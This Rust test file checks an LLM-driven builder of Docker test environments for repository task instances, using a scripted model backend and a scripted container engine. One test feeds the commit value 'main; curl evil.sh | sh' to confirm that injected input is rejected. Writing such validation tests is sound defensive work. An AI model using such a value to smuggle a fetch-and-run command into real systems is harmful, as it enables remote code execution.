//! End-to-end tests of the refinement loop with a scripted generation
//! backend and a scripted container engine.

use async_trait::async_trait;
use std::collections::VecDeque;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};

use env_forge::agents::prompts::{DRAFTER_SYSTEM, EXPLORER_SYSTEM};
use env_forge::builder::{
    parse_instances, run_batch, BuilderConfig, BuilderState, FailureKind, Orchestrator,
};
use env_forge::error::{LlmError, SandboxError};
use env_forge::llm::{
    Choice, GenerationClient, GenerationRequest, GenerationResponse, LlmProvider, Message,
    RetryPolicy, Usage,
};
use env_forge::pool::{MemoryPool, PoolHandle};
use env_forge::sandbox::docker::patch_path;
use env_forge::sandbox::{
    BuildOutcome, BuildRequest, ExecOutput, ProbeSession, RunOutcome, RunRequest, Sandbox,
    SessionRequest,
};
use env_forge::types::TaskInstance;
use env_forge::validation::classify::{analyze, classify};
use env_forge::validation::report::render_report;
use env_forge::validation::{
    parse_report, Classification, OutcomeMap, TestOutcome, REPORT_END, REPORT_START,
};

const FOCUS: &str = "tests/test_widgets.py::test_resize_keeps_ratio";
const STABLE: &str = "tests/test_widgets.py::test_create";
const COMMIT: &str = "4f2c9e1a7b3d5f60";

// ----------------------------------------------------------------------------
// Scripted generation backend
// ----------------------------------------------------------------------------

#[derive(Default)]
struct ScriptedLlm {
    drafter: Mutex<VecDeque<String>>,
    scriptwriter: Mutex<VecDeque<String>>,
    explorer_never_finishes: bool,
    fail_with: Option<fn() -> LlmError>,
    calls: Mutex<Vec<&'static str>>,
    counter: AtomicUsize,
}

impl ScriptedLlm {
    fn calls(&self, role: &str) -> usize {
        self.calls.lock().unwrap().iter().filter(|r| **r == role).count()
    }

    fn total_calls(&self) -> usize {
        self.calls.lock().unwrap().len()
    }

    fn default_reply(&self, role: &str) -> String {
        let n = self.counter.fetch_add(1, Ordering::SeqCst);
        match role {
            "explorer" if self.explorer_never_finishes => {
                "Let me think about this repository first.".to_string()
            }
            "explorer" => r#"{"action": "finish", "finding": {
                "runtime_version": "python 3.11",
                "package_manager": "pip",
                "install_cmds": ["pip install -e ."],
                "test_cmds": ["pytest -rA tests/test_widgets.py"],
                "notes": "plain pytest"
            }}"#
            .to_string(),
            "drafter" => dockerfile_reply(&format!("attempt-{}", n)),
            _ => script_reply(&format!("attempt {}", n)),
        }
    }
}

fn dockerfile_reply(marker: &str) -> String {
    format!(
        "```dockerfile\nFROM python:3.11-slim\nRUN git clone https://github.com/octo/widgets /repo && git -C /repo checkout {}\nRUN echo {}\nWORKDIR /repo\n```",
        COMMIT, marker
    )
}

fn script_reply(marker: &str) -> String {
    format!(
        "```bash\n# {}\npytest -rA tests/test_widgets.py > /tmp/out.txt 2>&1\necho '{}'\nawk '/^(PASSED|FAILED)/ {{print ($1==\"PASSED\"?\"PASS\":\"FAIL\") \"\\t\" $2}}' /tmp/out.txt\necho '{}'\n```",
        marker, REPORT_START, REPORT_END
    )
}

#[async_trait]
impl LlmProvider for ScriptedLlm {
    async fn generate(&self, request: GenerationRequest) -> Result<GenerationResponse, LlmError> {
        let role = match request.system_prompt() {
            Some(p) if p == EXPLORER_SYSTEM => "explorer",
            Some(p) if p == DRAFTER_SYSTEM => "drafter",
            _ => "scriptwriter",
        };
        self.calls.lock().unwrap().push(role);
        if let Some(fail) = self.fail_with {
            return Err(fail());
        }

        let scripted = match role {
            "drafter" => self.drafter.lock().unwrap().pop_front(),
            "scriptwriter" => self.scriptwriter.lock().unwrap().pop_front(),
            _ => None,
        };
        let content = scripted.unwrap_or_else(|| self.default_reply(role));
        Ok(GenerationResponse {
            id: "scripted".into(),
            model: request.model.clone(),
            choices: vec![Choice {
                index: 0,
                message: Message::assistant(content),
                finish_reason: "stop".into(),
            }],
            usage: Usage {
                prompt_tokens: 100,
                completion_tokens: 20,
                total_tokens: 120,
            },
        })
    }
}

// ----------------------------------------------------------------------------
// Scripted container engine
// ----------------------------------------------------------------------------

#[derive(Default)]
struct ScriptedSandbox {
    build_always_fails: bool,
    /// Served before the default pre/post behaviour.
    runs: Mutex<VecDeque<RunOutcome>>,
    /// Post-patch outcome of the stable test; `Pass` unless overridden.
    stable_post: Option<TestOutcome>,
    built_dockerfiles: Mutex<Vec<String>>,
    removed_images: Mutex<Vec<String>>,
    sessions: AtomicUsize,
}

impl ScriptedSandbox {
    fn outcomes(&self, patched: bool) -> OutcomeMap {
        let mut map = OutcomeMap::new();
        if patched {
            map.insert(FOCUS.to_string(), TestOutcome::Pass);
            map.insert(
                STABLE.to_string(),
                self.stable_post.unwrap_or(TestOutcome::Pass),
            );
        } else {
            map.insert(FOCUS.to_string(), TestOutcome::Fail);
            map.insert(STABLE.to_string(), TestOutcome::Pass);
        }
        map
    }
}

struct ScriptedSession;

#[async_trait]
impl ProbeSession for ScriptedSession {
    fn name(&self) -> &str {
        "envforge-probe-test"
    }

    async fn exec(
        &self,
        _cmd: &str,
        _timeout: std::time::Duration,
    ) -> Result<ExecOutput, SandboxError> {
        Ok(ExecOutput {
            exit_code: 0,
            stdout: "setup.py\ntests\nwidgets\n".into(),
            ..Default::default()
        })
    }

    async fn close(&self) {}
}

#[async_trait]
impl Sandbox for ScriptedSandbox {
    async fn build(&self, request: &BuildRequest) -> Result<BuildOutcome, SandboxError> {
        self.built_dockerfiles
            .lock()
            .unwrap()
            .push(request.dockerfile.clone());
        if self.build_always_fails {
            return Ok(BuildOutcome::Failed {
                exit_code: 1,
                log: "E: Unable to locate package libwidgets-dev".into(),
            });
        }
        Ok(BuildOutcome::Built {
            image: request.tag.clone(),
            log: "Successfully built".into(),
        })
    }

    async fn run(&self, request: &RunRequest) -> Result<RunOutcome, SandboxError> {
        if let Some(run) = self.runs.lock().unwrap().pop_front() {
            return Ok(run);
        }
        let patched = request
            .files
            .iter()
            .any(|f| f.container_path == patch_path() && !f.content.trim().is_empty());
        Ok(RunOutcome::Completed(ExecOutput {
            exit_code: 0,
            stdout: render_report(&self.outcomes(patched)),
            ..Default::default()
        }))
    }

    async fn open_session(
        &self,
        _request: &SessionRequest,
    ) -> Result<Box<dyn ProbeSession>, SandboxError> {
        self.sessions.fetch_add(1, Ordering::SeqCst);
        Ok(Box::new(ScriptedSession))
    }

    async fn remove_image(&self, image: &str) {
        self.removed_images.lock().unwrap().push(image.to_string());
    }
}

// ----------------------------------------------------------------------------
// Helpers
// ----------------------------------------------------------------------------

fn instance(version: &str) -> TaskInstance {
    TaskInstance {
        instance_id: String::new(),
        repo: "octo/widgets".into(),
        base_commit: COMMIT.into(),
        language: "python".into(),
        problem_statement: "Resizing a widget loses its aspect ratio.".into(),
        gold_patch: "diff --git a/widgets/core.py b/widgets/core.py\n--- a/widgets/core.py\n+++ b/widgets/core.py\n@@ -1 +1 @@\n-ratio = 1\n+ratio = w / h\n".into(),
        test_patch: "diff --git a/tests/test_widgets.py b/tests/test_widgets.py\n--- a/tests/test_widgets.py\n+++ b/tests/test_widgets.py\n@@ -1 +1,2 @@\n+def test_resize_keeps_ratio(): ...\n".into(),
        version: Some(version.into()),
        fail_to_pass: None,
        allowed_regressions: Vec::new(),
        hints_text: None,
        created_at: None,
    }
}

fn config(round_limit: u32) -> BuilderConfig {
    let mut config = BuilderConfig::default();
    config.round_limit = round_limit;
    config.workers = 2;
    config.agents.explorer.max_turns = 3;
    config.agents.drafter_max_turns = 2;
    config.agents.scriptwriter_max_turns = 2;
    config
}

fn orchestrator(
    config: &BuilderConfig,
    llm: &Arc<ScriptedLlm>,
    sandbox: &Arc<ScriptedSandbox>,
    pool: PoolHandle,
) -> Orchestrator {
    let client = GenerationClient::new(llm.clone(), "scripted-model").with_retry(RetryPolicy {
        max_retries: 0,
        base_delay_ms: 1,
        call_timeout_secs: 5,
    });
    Orchestrator::new(config, client, sandbox.clone(), pool)
}

// ----------------------------------------------------------------------------
// Tests
// ----------------------------------------------------------------------------

#[tokio::test]
async fn test_gold_patch_turning_one_test_green_succeeds() {
    let llm = Arc::new(ScriptedLlm::default());
    let sandbox = Arc::new(ScriptedSandbox::default());
    let orch = orchestrator(&config(5), &llm, &sandbox, PoolHandle::disabled());

    let outcome = orch.process(instance("1.2")).await;

    assert!(outcome.success, "failure: {:?}", outcome.failure);
    assert_eq!(outcome.rounds_used, 1);
    assert_eq!(outcome.classification_history, vec![Classification::Success]);
    let validation = outcome.validation.as_ref().unwrap();
    assert_eq!(validation.classification, Classification::Success);
    assert_eq!(
        validation.fail_to_pass.iter().collect::<Vec<_>>(),
        vec![FOCUS]
    );
    assert!(validation.pass_to_pass.contains(STABLE));
    assert!(validation.regressions.is_empty());

    assert_eq!(outcome.instance_id, format!("octo__widgets-{}", &COMMIT[..12]));
    assert!(outcome.environment.is_some());
    assert!(outcome.eval_script.as_ref().unwrap().text.contains(REPORT_START));
    assert_eq!(llm.calls("explorer"), 1);
    assert_eq!(llm.calls("drafter"), 1);
    assert_eq!(llm.calls("scriptwriter"), 1);
    assert_eq!(sandbox.sessions.load(Ordering::SeqCst), 1);
    assert!(sandbox.removed_images.lock().unwrap().is_empty());

    assert_eq!(outcome.rounds.len(), 1);
    assert_eq!(outcome.rounds[0].generation.turns, 3);
    assert_eq!(outcome.generation.usage.total_tokens, 360);
}

#[tokio::test]
async fn test_build_failing_every_round_exhausts_the_budget() {
    let llm = Arc::new(ScriptedLlm::default());
    let sandbox = Arc::new(ScriptedSandbox {
        build_always_fails: true,
        ..Default::default()
    });
    let orch = orchestrator(&config(3), &llm, &sandbox, PoolHandle::disabled());

    let outcome = orch.process(instance("1.2")).await;

    assert!(!outcome.success);
    assert_eq!(outcome.failure_kind(), Some(FailureKind::RoundLimitExceeded));
    assert_eq!(outcome.rounds_used, 3);
    assert_eq!(outcome.rounds_used, outcome.round_limit);
    assert_eq!(
        outcome.classification_history,
        vec![Classification::BuildFailure; 3]
    );
    assert_eq!(sandbox.built_dockerfiles.lock().unwrap().len(), 3);
    assert_eq!(llm.calls("explorer"), 1);
    assert_eq!(llm.calls("drafter"), 3);
    assert_eq!(outcome.rounds.len(), 3);
    assert!(outcome.rounds.iter().all(|r| r.validation.is_some()));
}

#[tokio::test]
async fn test_identical_environment_resubmission_stalls_early() {
    let llm = Arc::new(ScriptedLlm::default());
    *llm.drafter.lock().unwrap() = vec![dockerfile_reply("same"), dockerfile_reply("same")].into();
    let sandbox = Arc::new(ScriptedSandbox {
        build_always_fails: true,
        ..Default::default()
    });
    let orch = orchestrator(&config(5), &llm, &sandbox, PoolHandle::disabled());

    let outcome = orch.process(instance("1.2")).await;

    assert_eq!(outcome.failure_kind(), Some(FailureKind::Stalled));
    assert_eq!(outcome.rounds_used, 1);
    assert!(outcome.rounds_used < outcome.round_limit);
    assert_eq!(
        outcome.classification_history,
        vec![Classification::BuildFailure]
    );
    assert_eq!(sandbox.built_dockerfiles.lock().unwrap().len(), 1);
}

#[tokio::test]
async fn test_pre_patch_timeout_is_a_harness_failure_and_refines() {
    let llm = Arc::new(ScriptedLlm::default());
    let sandbox = Arc::new(ScriptedSandbox::default());
    sandbox.runs.lock().unwrap().push_back(RunOutcome::TimedOut {
        stdout: "collecting ...".into(),
        stderr: String::new(),
    });
    let orch = orchestrator(&config(5), &llm, &sandbox, PoolHandle::disabled());

    let outcome = orch.process(instance("1.2")).await;

    assert!(outcome.success, "failure: {:?}", outcome.failure);
    assert_eq!(
        outcome.classification_history,
        vec![Classification::TestHarnessFailure, Classification::Success]
    );
    assert!(outcome.rounds[0].reason.contains("pre-patch run 1"));
    // Harness failures go back to the scriptwriter only.
    assert_eq!(llm.calls("explorer"), 1);
    assert_eq!(llm.calls("drafter"), 1);
    assert_eq!(llm.calls("scriptwriter"), 2);
    // The failed round's image is cleaned up.
    assert_eq!(sandbox.removed_images.lock().unwrap().len(), 1);
}

#[tokio::test]
async fn test_regression_never_yields_success() {
    let llm = Arc::new(ScriptedLlm::default());
    let sandbox = Arc::new(ScriptedSandbox {
        stable_post: Some(TestOutcome::Fail),
        ..Default::default()
    });
    let orch = orchestrator(&config(2), &llm, &sandbox, PoolHandle::disabled());

    let outcome = orch.process(instance("1.2")).await;

    assert!(!outcome.success);
    assert_eq!(outcome.failure_kind(), Some(FailureKind::RoundLimitExceeded));
    assert!(outcome.rounds_used <= outcome.round_limit);
    assert!(outcome
        .classification_history
        .iter()
        .all(|c| *c != Classification::Success));
    assert!(outcome.rounds[0].reason.contains("regressions"));
}

#[test]
fn test_synthetic_regression_is_not_success() {
    let pre: OutcomeMap = [
        (FOCUS.to_string(), TestOutcome::Fail),
        (STABLE.to_string(), TestOutcome::Pass),
    ]
    .into_iter()
    .collect();
    let post: OutcomeMap = [
        (FOCUS.to_string(), TestOutcome::Pass),
        (STABLE.to_string(), TestOutcome::Error),
    ]
    .into_iter()
    .collect();
    let focus = [FOCUS.to_string()].into_iter().collect();
    let analysis = analyze(&[pre], &post, focus, &Default::default());
    assert!(analysis.fail_to_pass.contains(FOCUS));
    assert!(analysis.regressions.contains(STABLE));
    assert_ne!(classify(&analysis, &post).classification, Classification::Success);
}

#[tokio::test]
async fn test_cached_artifacts_are_validated_before_any_agent_runs() {
    let dir = tempfile::tempdir().unwrap();
    let pool = PoolHandle::enabled(MemoryPool::open(&dir.path().join("pool.db")).await.unwrap());
    let llm = Arc::new(ScriptedLlm::default());
    let sandbox = Arc::new(ScriptedSandbox::default());
    let orch = orchestrator(&config(5), &llm, &sandbox, pool.clone());

    let first = orch.process(instance("1.2")).await;
    assert!(first.success);
    assert!(!first.cache_hit);
    let calls_after_first = llm.total_calls();

    let mut second = instance("1.3");
    second.base_commit = "9a8b7c6d5e4f3a2b".into();
    let outcome = orch.process(second).await;

    assert!(outcome.success, "failure: {:?}", outcome.failure);
    assert!(outcome.cache_hit);
    assert_eq!(outcome.rounds_used, 1);
    assert!(outcome.rounds[0].cache_hit);
    assert_eq!(llm.total_calls(), calls_after_first);
    assert_eq!(sandbox.sessions.load(Ordering::SeqCst), 1);

    // The reused Dockerfile was pointed at the new commit.
    let built = sandbox.built_dockerfiles.lock().unwrap();
    let last = built.last().unwrap();
    assert!(last.contains("checkout 9a8b7c6d5e4f3a2b"));
    assert!(!last.contains(COMMIT));

    let entry = pool
        .lookup("octo/widgets", "python", Some("1.3"))
        .await
        .unwrap()
        .unwrap();
    assert_eq!(entry.version, "1.3");
    assert_eq!(entry.base_commit, "9a8b7c6d5e4f3a2b");
}

#[tokio::test]
async fn test_cached_environment_survives_a_harness_failure() {
    let dir = tempfile::tempdir().unwrap();
    let pool = PoolHandle::enabled(MemoryPool::open(&dir.path().join("pool.db")).await.unwrap());
    let llm = Arc::new(ScriptedLlm::default());
    let sandbox = Arc::new(ScriptedSandbox::default());
    let orch = orchestrator(&config(5), &llm, &sandbox, pool);

    assert!(orch.process(instance("1.2")).await.success);
    let drafter_calls = llm.calls("drafter");

    // The cached script prints no report for the new commit.
    sandbox
        .runs
        .lock()
        .unwrap()
        .push_back(RunOutcome::Completed(ExecOutput {
            exit_code: 0,
            stdout: "ImportError: cannot import name 'Widget'\n".into(),
            ..Default::default()
        }));
    let mut second = instance("1.3");
    second.base_commit = "9a8b7c6d5e4f3a2b".into();
    let outcome = orch.process(second).await;

    assert!(outcome.success, "failure: {:?}", outcome.failure);
    assert!(outcome.cache_hit);
    assert_eq!(
        outcome.classification_history,
        vec![Classification::TestHarnessFailure, Classification::Success]
    );
    assert_eq!(outcome.rounds[1].entry_state, BuilderState::Explore);
    assert!(outcome.rounds[1].states.contains(&BuilderState::DraftEval));
    assert!(!outcome.rounds[1].states.contains(&BuilderState::DraftEnv));
    // The cached environment is kept; only the script is rewritten.
    assert_eq!(llm.calls("drafter"), drafter_calls);
    assert_eq!(llm.calls("explorer"), 2);
    assert_eq!(llm.calls("scriptwriter"), 2);
    assert_eq!(
        outcome.rounds[0].environment_hash,
        outcome.rounds[1].environment_hash
    );
}

#[tokio::test]
async fn test_unstable_focus_goes_back_to_exploration() {
    let llm = Arc::new(ScriptedLlm::default());
    let sandbox = Arc::new(ScriptedSandbox::default());
    {
        let mut runs = sandbox.runs.lock().unwrap();
        for focus in [TestOutcome::Fail, TestOutcome::Pass] {
            let map: OutcomeMap = [
                (FOCUS.to_string(), focus),
                (STABLE.to_string(), TestOutcome::Pass),
            ]
            .into_iter()
            .collect();
            runs.push_back(RunOutcome::Completed(ExecOutput {
                exit_code: 0,
                stdout: render_report(&map),
                ..Default::default()
            }));
        }
    }
    let mut cfg = config(5);
    cfg.sandbox.repeat_count = 2;
    let orch = orchestrator(&cfg, &llm, &sandbox, PoolHandle::disabled());

    let outcome = orch.process(instance("1.2")).await;

    assert!(outcome.success, "failure: {:?}", outcome.failure);
    assert_eq!(
        outcome.classification_history,
        vec![Classification::Unsupported, Classification::Success]
    );
    let first = outcome.rounds[0].validation.as_ref().unwrap();
    assert_eq!(first.pre_patch_outcomes.len(), 2);
    assert_eq!(outcome.rounds[1].entry_state, BuilderState::Explore);
    assert_eq!(llm.calls("explorer"), 2);
    assert_eq!(llm.calls("drafter"), 2);
    assert_eq!(llm.calls("scriptwriter"), 2);
}

#[tokio::test]
async fn test_disabled_pool_records_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("pool.db");
    let mut cfg = config(5);
    cfg.pool.enabled = false;
    cfg.pool.path = path.clone();
    let pool = cfg.open_pool().await.unwrap();
    assert!(!pool.is_enabled());

    let llm = Arc::new(ScriptedLlm::default());
    let sandbox = Arc::new(ScriptedSandbox::default());
    let orch = orchestrator(&cfg, &llm, &sandbox, pool.clone());
    let first = orch.process(instance("1.2")).await;
    assert!(first.success);

    let second = orch.process(instance("1.3")).await;
    assert!(second.success);
    assert!(!second.cache_hit);
    assert!(pool
        .lookup("octo/widgets", "python", Some("1.2"))
        .await
        .unwrap()
        .is_none());
    assert!(!path.exists());
    assert_eq!(llm.calls("explorer"), 2);
}

#[tokio::test]
async fn test_enabled_pool_records_each_success() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("pool.db");
    let mut cfg = config(5);
    cfg.pool.enabled = true;
    cfg.pool.path = path.clone();
    let pool = cfg.open_pool().await.unwrap();
    assert!(pool.is_enabled());

    let llm = Arc::new(ScriptedLlm::default());
    let sandbox = Arc::new(ScriptedSandbox::default());
    let orch = orchestrator(&cfg, &llm, &sandbox, pool);
    assert!(orch.process(instance("1.2")).await.success);
    drop(orch);

    let reopened = MemoryPool::open(&path).await.unwrap();
    assert_eq!(reopened.stats().await.unwrap().entries, 1);
}

#[tokio::test]
async fn test_explorer_exhaustion_is_charged_as_build_failure() {
    let llm = Arc::new(ScriptedLlm {
        explorer_never_finishes: true,
        ..Default::default()
    });
    let sandbox = Arc::new(ScriptedSandbox::default());
    let orch = orchestrator(&config(2), &llm, &sandbox, PoolHandle::disabled());

    let outcome = orch.process(instance("1.2")).await;

    assert_eq!(outcome.failure_kind(), Some(FailureKind::RoundLimitExceeded));
    assert_eq!(outcome.rounds_used, 2);
    assert_eq!(
        outcome.classification_history,
        vec![Classification::BuildFailure; 2]
    );
    assert!(outcome.rounds[0].reason.contains("exploration exhausted"));
    assert!(outcome.rounds[0].validation.is_none());
    assert_eq!(llm.calls("explorer"), 6);
    assert_eq!(llm.calls("drafter"), 0);
    assert!(sandbox.built_dockerfiles.lock().unwrap().is_empty());
}

#[tokio::test]
async fn test_backend_failure_ends_instance_without_consuming_rounds() {
    let llm = Arc::new(ScriptedLlm {
        fail_with: Some(|| LlmError::ApiError {
            code: 401,
            message: "bad key".into(),
        }),
        ..Default::default()
    });
    let sandbox = Arc::new(ScriptedSandbox::default());
    let orch = orchestrator(&config(5), &llm, &sandbox, PoolHandle::disabled());

    let outcome = orch.process(instance("1.2")).await;

    assert_eq!(outcome.failure_kind(), Some(FailureKind::BackendFailure));
    assert_eq!(outcome.rounds_used, 0);
    assert!(outcome.classification_history.is_empty());
    assert_eq!(llm.total_calls(), 1);
}

#[tokio::test]
async fn test_unsafe_identity_is_rejected_before_any_work() {
    let llm = Arc::new(ScriptedLlm::default());
    let sandbox = Arc::new(ScriptedSandbox::default());
    let orch = orchestrator(&config(5), &llm, &sandbox, PoolHandle::disabled());

    let mut bad = instance("1.2");
    bad.base_commit = "main; curl evil.sh | sh".into();
    let outcome = orch.process(bad).await;

    assert_eq!(outcome.failure_kind(), Some(FailureKind::InvalidInput));
    assert_eq!(outcome.rounds_used, 0);
    assert_eq!(llm.total_calls(), 0);
    assert_eq!(sandbox.sessions.load(Ordering::SeqCst), 0);
}

#[tokio::test]
async fn test_batch_yields_one_record_per_input_line() {
    let good = serde_json::to_string(&instance("1.2")).unwrap();
    let mut other = instance("2.0");
    other.instance_id = "widgets-second".into();
    let other = serde_json::to_string(&other).unwrap();
    let text = format!("{}\n{{\"repo\": \n\n{}\n", good, other);
    let records = parse_instances(&text);
    assert_eq!(records.len(), 3);

    let llm = Arc::new(ScriptedLlm::default());
    let sandbox = Arc::new(ScriptedSandbox::default());
    let cfg = config(3);
    let orch = Arc::new(orchestrator(&cfg, &llm, &sandbox, PoolHandle::disabled()));
    let (tx, mut rx) = tokio::sync::mpsc::channel(8);

    let outcomes = run_batch(orch.clone(), records, cfg.workers, Some(tx)).await;

    assert_eq!(outcomes.len(), 3);
    assert!(outcomes[0].success);
    assert_eq!(outcomes[1].instance_id, "line-2");
    assert_eq!(outcomes[1].failure_kind(), Some(FailureKind::InvalidInput));
    assert_eq!(outcomes[2].instance_id, "widgets-second");
    assert!(outcomes[2].success);

    let mut streamed = 0;
    while rx.recv().await.is_some() {
        streamed += 1;
    }
    assert_eq!(streamed, 3);

    let progress = orch.progress();
    assert_eq!(progress.finished.load(Ordering::Relaxed), 3);
    assert_eq!(progress.succeeded.load(Ordering::Relaxed), 2);
    assert_eq!(progress.started.load(Ordering::Relaxed), 2);
    assert_eq!(progress.sandboxes_active.load(Ordering::Relaxed), 0);
}

#[test]
fn test_report_parsing_is_idempotent() {
    let stdout = format!(
        "collected 3 items\n{}\nPASS\t{}\nFAIL\t{}\nSKIP\ttests/test_widgets.py::test_gpu\n{}\ntrailing noise\n",
        REPORT_START, STABLE, FOCUS, REPORT_END
    );
    let first = parse_report(&stdout).unwrap();
    let second = parse_report(&stdout).unwrap();
    assert_eq!(first, second);
    assert_eq!(
        serde_json::to_string(&first).unwrap(),
        serde_json::to_string(&second).unwrap()
    );
    assert_eq!(first.len(), 3);
}
